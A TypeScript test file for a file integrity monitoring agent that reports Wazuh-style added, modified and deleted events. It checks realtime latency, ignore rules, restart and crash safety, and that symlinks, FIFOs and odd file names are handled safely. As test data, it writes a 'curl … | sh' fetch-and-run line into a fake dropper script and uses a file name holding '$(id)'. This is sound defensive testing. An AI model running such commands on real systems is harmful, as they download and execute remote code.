import { test } from "node:test";
import assert from "node:assert/strict";
import { appendFileSync, chmodSync, existsSync, mkdirSync, mkdtempSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { execFileSync } from "node:child_process";
import { tmpdir } from "node:os";
import { createHash } from "node:crypto";
import { join } from "node:path";
import { createLogger, silentLogger, systemClock, type Logger } from "../../core/mod.ts";
import type { CollectedEvent, EventSink } from "../logcollector/mod.ts";
import { openDatabase } from "../../store/mod.ts";
import { EventSpool } from "../spool/mod.ts";
import { eventually } from "../../../test/harness/log_source_conformance.ts";
import { createFim, type SyscheckSpec } from "./fim.ts";
import type { FimEvent } from "./fim_event.ts";
import { permString } from "./file_attributes.ts";

const ALL = { md5: true, sha1: true, sha256: true, size: true, owner: true, group: true, perm: true, mtime: true, inode: true };

function setup(over: Partial<SyscheckSpec> = {}, dirOver: Partial<SyscheckSpec["directories"][number]> = {}, logger: Logger = silentLogger) {
  const home = mkdtempSync(join(tmpdir(), "riposte-fim-"));
  const watched = join(home, "watched");
  mkdirSync(watched);
  const spec: SyscheckSpec = {
    frequencySeconds: 3600,
    scanOnStart: true,
    alertNewFiles: true,
    directories: [{ path: watched, realtime: false, checks: ALL, recursionLevel: 256, ...dirOver }],
    ignore: [],
    ...over,
  };
  const events: FimEvent[] = [];
  const sent: CollectedEvent[] = [];
  let refuse = false;
  const make = () =>
    createFim(spec, {
      clock: systemClock,
      logger,
      home,
      sink: async (e, commit) => {
        if (refuse) throw new Error("spool full");
        commit?.();
        sent.push(e);
      },
      onEvent: (e) => events.push(e),
    });
  const run = async (fim = make()) => {
    const ac = new AbortController();
    const done = fim.start(ac.signal);
    await eventually(() => fim.stats().scans >= 1, "the baseline scan");
    return { fim, stop: async () => (ac.abort(), await done) };
  };
  return { home, watched, spec, events, sent, run, refuse: (v: boolean) => void (refuse = v), cleanup: () => rmSync(home, { recursive: true, force: true }) };
}

const brief = (events: FimEvent[]) => events.map((e) => `${e.type} ${e.path.replace(/.*\/watched/, "")}`);

test("createFim() builds the baseline silently, then a scan reports added, modified and deleted", async () => {
  const t = setup();
  writeFileSync(join(t.watched, "existing"), "one");
  mkdirSync(join(t.watched, "sub"));
  writeFileSync(join(t.watched, "sub", "deep"), "deep");
  const { fim, stop } = await t.run();
  try {
    assert.equal(t.events.length, 0, "no alert storm at first scan");
    writeFileSync(join(t.watched, "new file"), "hello");
    appendFileSync(join(t.watched, "existing"), " two");
    rmSync(join(t.watched, "sub", "deep"));
    await fim.scanNow();
    assert.deepEqual(brief(t.events), ["modified /existing", "added /new file", "deleted /sub/deep"]);
    const modified = t.events[0];
    assert.deepEqual(modified?.changedAttributes?.filter((a) => a !== "mtime"), ["size", "md5", "sha1", "sha256"]);
    assert.equal(modified?.oldAttributes?.size, 3);
    assert.equal(modified?.attributes.size, 7);
    assert.equal(modified?.attributes.hash_md5, createHash("md5").update("one two").digest("hex"));
    assert.equal(modified?.oldAttributes?.hash_sha256, createHash("sha256").update("one").digest("hex"));
    await fim.scanNow();
    assert.equal(t.events.length, 3, "an unchanged tree gives no event");
  } finally {
    await stop();
    t.cleanup();
  }
});

test("FIM events leave as queue 8 with Wazuh's syscheck JSON body (rules 554, 550, 553)", async () => {
  const t = setup();
  const { fim, stop } = await t.run();
  try {
    const path = join(t.watched, "passwd");
    writeFileSync(path, "root:x:0:0\n");
    chmodSync(path, 0o640);
    await fim.scanNow();
    writeFileSync(path, "root:x:0:0\nmallory:x:0:0\n");
    await fim.scanNow();
    rmSync(path);
    await fim.scanNow();
    assert.deepEqual(t.sent.map((e) => [e.location, e.queue]), [["syscheck", "8"], ["syscheck", "8"], ["syscheck", "8"]]);
    const bodies = t.sent.map((e) => JSON.parse(e.log) as { type: string; data: Record<string, unknown> & { attributes: Record<string, unknown> } });
    assert.deepEqual(bodies.map((b) => [b.type, b.data["type"], b.data["path"], b.data["mode"], b.data["version"]]), [
      ["event", "added", path, "scheduled", 2],
      ["event", "modified", path, "scheduled", 2],
      ["event", "deleted", path, "scheduled", 2],
    ]);
    const added = bodies[0]?.data.attributes ?? {};
    assert.equal(added["type"], "file");
    assert.equal(added["perm"], "rw-r-----");
    assert.equal(added["size"], 11);
    for (const algo of ["md5", "sha1", "sha256"]) assert.equal(added[`hash_${algo}`], createHash(algo).update("root:x:0:0\n").digest("hex"));
    assert.equal(typeof added["uid"], "string");
    assert.equal(typeof added["inode"], "number");
    assert.ok(Array.isArray(bodies[1]?.data["changed_attributes"]));
    assert.equal((bodies[1]?.data["old_attributes"] as Record<string, unknown>)["size"], 11);
  } finally {
    await stop();
    t.cleanup();
  }
});

test("realtime: create, modify and delete under a watched directory each give their event within one second", async () => {
  const t = setup({}, { realtime: true });
  const { fim, stop } = await t.run();
  try {
    assert.equal(fim.stats().watching, 1);
    const path = join(t.watched, "dropper.sh");
    const timings: number[] = [];
    for (const [step, act] of [
      ["added", () => writeFileSync(path, "#!/bin/sh\n")],
      ["modified", () => appendFileSync(path, "curl http://203.0.113.9/x | sh\n")],
      ["deleted", () => rmSync(path)],
    ] as const) {
      const t0 = Date.now();
      const n = t.events.length;
      act();
      await eventually(() => t.events.length > n, `${step} event`, 1000);
      timings.push(Date.now() - t0);
      assert.equal(t.events.at(-1)?.type, step);
      assert.equal(t.events.at(-1)?.mode, "realtime");
      assert.equal(t.events.at(-1)?.path, path);
    }
    process.stdout.write(`# FIM realtime latency (added, modified, deleted): ${timings.join(", ")} ms\n`);
    mkdirSync(join(t.watched, "newdir"));
    writeFileSync(join(t.watched, "newdir", "inner"), "x");
    await eventually(() => t.events.some((e) => e.path.endsWith("/newdir/inner") && e.type === "added"), "file in a new subdirectory", 5000);
    renameSync(join(t.watched, "newdir"), join(t.watched, "moved"));
    await eventually(() => t.events.some((e) => e.path.endsWith("/newdir/inner") && e.type === "deleted"), "deletion by directory move", 5000);
    await eventually(() => t.events.some((e) => e.path.endsWith("/moved/inner") && e.type === "added"), "addition by directory move", 5000);
  } finally {
    await stop();
    t.cleanup();
  }
});

test("the end of each scan is logged (after the first, the baseline is built and realtime changes are reported)", async () => {
  const lines: string[] = [];
  const t = setup({}, { realtime: true }, createLogger({ write: (l) => void lines.push(l) }));
  const { fim, stop } = await t.run();
  try {
    assert.equal(lines.filter((l) => l.includes("File integrity monitoring scan ended")).length, 1);
    assert.match(lines.find((l) => l.includes("scan ended")) ?? "", / info riposte\.fim: File integrity monitoring scan ended scans=1 watching=1$/m);
    await fim.scanNow();
    await stop();
    assert.equal(lines.filter((l) => l.includes("File integrity monitoring scan ended")).length, 1, "scanNow() callers know when it ends; only the agent's own scans are logged");
  } finally {
    await stop();
    t.cleanup();
  }
});

test("realtime events are not held back by a long scheduled scan", async () => {
  const home = mkdtempSync(join(tmpdir(), "riposte-fim-"));
  const bulk = join(home, "bulk");
  const rt = join(home, "rt");
  mkdirSync(bulk);
  mkdirSync(rt);
  const name = (i: number) => join(bulk, `f${String(i).padStart(3, "0")}`);
  for (let i = 0; i < 150; i++) writeFileSync(name(i), "a");
  const events: FimEvent[] = [];
  const fim = createFim(
    {
      frequencySeconds: 3600, scanOnStart: true, alertNewFiles: true, ignore: [],
      directories: [
        { path: bulk, realtime: false, checks: ALL, recursionLevel: 256 },
        { path: rt, realtime: true, checks: ALL, recursionLevel: 256 },
      ],
    },
    // A slow sink (10 ms per event): a scan reporting 150 modifications takes over 1.5 s.
    { clock: systemClock, logger: silentLogger, home, sink: (_e, commit) => new Promise((r) => setTimeout(() => r(commit?.()), 10)), onEvent: (e) => events.push(e) },
  );
  const ac = new AbortController();
  const done = fim.start(ac.signal);
  try {
    await eventually(() => fim.stats().scans >= 1, "baseline");
    for (let i = 0; i < 150; i++) writeFileSync(name(i), "changed");
    const scan = fim.scanNow();
    scan.catch(() => {});
    await eventually(() => events.length >= 10, "the scan under way");
    const t0 = Date.now();
    writeFileSync(join(rt, "intruder"), "x");
    await eventually(() => events.some((e) => e.path.endsWith("/intruder")), "the realtime event during the scan", 1000);
    const latency = Date.now() - t0;
    const modifiedBefore = events.filter((e) => e.type === "modified").length;
    await scan;
    assert.ok(modifiedBefore < 150, "the realtime event came before the scan finished");
    assert.ok(latency < 1000, `${latency} ms`);
    assert.equal(events.filter((e) => e.type === "modified").length, 150);
  } finally {
    ac.abort();
    await done;
    rmSync(home, { recursive: true, force: true });
  }
});

test("ignore (plain prefix and sregex), restrict and recursion_level limit what FIM reports", async () => {
  const t = setup();
  const spec: SyscheckSpec = {
    ...t.spec,
    ignore: [
      { kind: "path", value: join(t.watched, "mtab") },
      { kind: "sregex", value: ".log$|^/nonexistent" },
    ],
    directories: [{ path: t.watched, realtime: false, checks: ALL, recursionLevel: 0, restrict: "!.tmp$" }],
  };
  const events: FimEvent[] = [];
  const fim = createFim(spec, { clock: systemClock, logger: silentLogger, home: t.home, sink: async (_e, commit) => commit?.(), onEvent: (e) => events.push(e) });
  const ac = new AbortController();
  const done = fim.start(ac.signal);
  try {
    await eventually(() => fim.stats().scans >= 1, "baseline");
    mkdirSync(join(t.watched, "sub"));
    for (const name of ["mtab", "mtab.lock", "app.LOG", "cache.tmp", "kept", "sub/too-deep"]) writeFileSync(join(t.watched, name), name);
    await fim.scanNow();
    assert.deepEqual(brief(events), ["added /kept"]);
  } finally {
    ac.abort();
    await done;
    t.cleanup();
  }
});

test("the baseline survives a restart: changes made while stopped are reported at start", async () => {
  const t = setup();
  writeFileSync(join(t.watched, "a"), "1");
  let r = await t.run();
  await r.stop();
  writeFileSync(join(t.watched, "a"), "22");
  writeFileSync(join(t.watched, "b"), "new");
  r = await t.run();
  try {
    assert.deepEqual(brief(t.events), ["modified /a", "added /b"]);
  } finally {
    await r.stop();
    t.cleanup();
  }
});

test("an event the sink refuses is not recorded, so the next scan reports it again", async () => {
  const t = setup();
  const { fim, stop } = await t.run();
  try {
    writeFileSync(join(t.watched, "x"), "1");
    t.refuse(true);
    await assert.rejects(fim.scanNow(), /spool full/);
    t.refuse(false);
    await fim.scanNow();
    assert.deepEqual(brief(t.events), ["added /x"]);
  } finally {
    await stop();
    t.cleanup();
  }
});

test("hostile entries: a FIFO is never opened and a symbolic link is not followed", async () => {
  const t = setup();
  const { fim, stop } = await t.run();
  try {
    execFileSync("mkfifo", [join(t.watched, "pipe")]);
    writeFileSync(join(t.home, "outside-secret"), "secret");
    symlinkSync(join(t.home, "outside-secret"), join(t.watched, "link"));
    writeFileSync(join(t.watched, "name with\nnewline and 'quotes' $(id)"), "x");
    await fim.scanNow();
    assert.deepEqual(brief(t.events), ["added /name with\nnewline and 'quotes' $(id)"]);
    const body = JSON.parse(t.sent[0]?.log ?? "{}") as { data: { path: string } };
    assert.equal(body.data.path, join(t.watched, "name with\nnewline and 'quotes' $(id)"));
    assert.ok(!(t.sent[0]?.log ?? "").includes("\n" + "newline"), "the body stays one line");
  } finally {
    await stop();
    t.cleanup();
  }
});

test("realtime: a single monitored file replaced by rename, and a directory created after start", async () => {
  const home = mkdtempSync(join(tmpdir(), "riposte-fim-"));
  const file = join(home, "sshd_config");
  const later = join(home, "later");
  writeFileSync(file, "PermitRootLogin no\n");
  const events: FimEvent[] = [];
  const fim = createFim(
    {
      frequencySeconds: 3600,
      scanOnStart: true,
      alertNewFiles: true,
      ignore: [],
      directories: [
        { path: file, realtime: true, checks: ALL, recursionLevel: 0 },
        { path: later, realtime: true, checks: ALL, recursionLevel: 256 },
      ],
    },
    { clock: systemClock, logger: silentLogger, home, sink: async (_e, commit) => commit?.(), onEvent: (e) => events.push(e) },
  );
  const ac = new AbortController();
  const done = fim.start(ac.signal);
  try {
    await eventually(() => fim.stats().scans >= 1, "baseline");
    assert.equal(fim.stats().watching, 1, "the missing directory is not watched yet");
    writeFileSync(`${file}.tmp`, "PermitRootLogin yes\n");
    renameSync(`${file}.tmp`, file);
    await eventually(() => events.some((e) => e.type === "modified" && e.path === file), "modified by rename-over", 1000);
    assert.ok(events.find((e) => e.path === file)?.changedAttributes?.includes("inode"));
    mkdirSync(later);
    await fim.scanNow();
    assert.equal(fim.stats().watching, 2, "the new directory is watched from the next scan on");
    writeFileSync(join(later, "implant"), "x");
    await eventually(() => events.some((e) => e.type === "added" && e.path === join(later, "implant") && e.mode === "realtime"), "realtime in the late directory", 1000);
  } finally {
    ac.abort();
    await done;
    rmSync(home, { recursive: true, force: true });
  }
});

test("permString() renders modes like Wazuh, special bits included", () => {
  assert.equal(permString(0o100644), "rw-r--r--");
  assert.equal(permString(0o4755), "rwsr-xr-x");
  assert.equal(permString(0o2750), "rwxr-s---");
  assert.equal(permString(0o1777), "rwxrwxrwt");
  assert.equal(permString(0o4644), "rwSr--r--");
  assert.equal(permString(0o1666), "rw-rw-rwT");
});

test("with the spool's database, a change's new baseline commits in its event's transaction: a crash right after it does not report the change again", async () => {
  const t = setup();
  const db = openDatabase(join(t.home, "queue", "spool.db"));
  const spool = new EventSpool(db);
  const make = (sink: EventSink) => createFim(t.spec, { clock: systemClock, logger: silentLogger, home: t.home, database: db, sink, onEvent: (e) => t.events.push(e) });
  const ac = new AbortController();
  const ac2 = new AbortController();
  try {
    writeFileSync(join(t.watched, "existing"), "one");
    // The first run "dies" right after the modification's transaction: its sink never resolves.
    let crashed = false;
    const first = make((e, commit) => {
      if (e.log.includes('"type":"modified"')) {
        crashed = true;
        void spool.append(e, commit);
        return new Promise<void>(() => {});
      }
      return spool.append(e, commit);
    });
    const done = first.start(ac.signal);
    await eventually(() => first.stats().scans >= 1, "the baseline scan");
    appendFileSync(join(t.watched, "existing"), " two");
    void first.scanNow().catch(() => {});
    await eventually(() => crashed && spool.size === 1, "the modification spooled");
    ac.abort();
    void done.catch(() => {});
    // After the restart, the next scan finds the baseline already holding the change.
    const second = make((e, commit) => spool.append(e, commit));
    const done2 = second.start(ac2.signal);
    await eventually(() => second.stats().scans >= 1, "the scan after the restart");
    await second.scanNow();
    assert.equal(spool.size, 1, "the change was spooled once");
    assert.deepEqual(second.stats().modified, 0);
    ac2.abort();
    await done2;
  } finally {
    ac.abort();
    ac2.abort();
    spool.close();
    db.close();
    t.cleanup();
  }
});

test("an earlier version's baseline.db is imported into the spool database: changes made meanwhile are reported, not taken as a new silent baseline", async () => {
  const t = setup();
  const legacyPath = join(t.home, "queue", "fim", "baseline.db");
  writeFileSync(join(t.watched, "existing"), "one");
  // The earlier version's own run, with its baseline in queue/fim/baseline.db.
  const old = await t.run();
  await old.stop();
  appendFileSync(join(t.watched, "existing"), " two");
  writeFileSync(join(t.watched, "new file"), "planted during the upgrade");
  const db = openDatabase(join(t.home, "queue", "spool.db"));
  const ac = new AbortController();
  try {
    const fim = createFim(t.spec, { clock: systemClock, logger: silentLogger, home: t.home, database: db, sink: async (_e, commit) => commit?.(), onEvent: (e) => t.events.push(e) });
    const done = fim.start(ac.signal);
    await eventually(() => fim.stats().scans >= 1, "the scan at start");
    assert.deepEqual(brief(t.events), ["modified /existing", "added /new file"]);
    assert.ok(existsSync(`${legacyPath}.imported`) && !existsSync(legacyPath));
    ac.abort();
    await done;
  } finally {
    ac.abort();
    db.close();
    t.cleanup();
  }
});
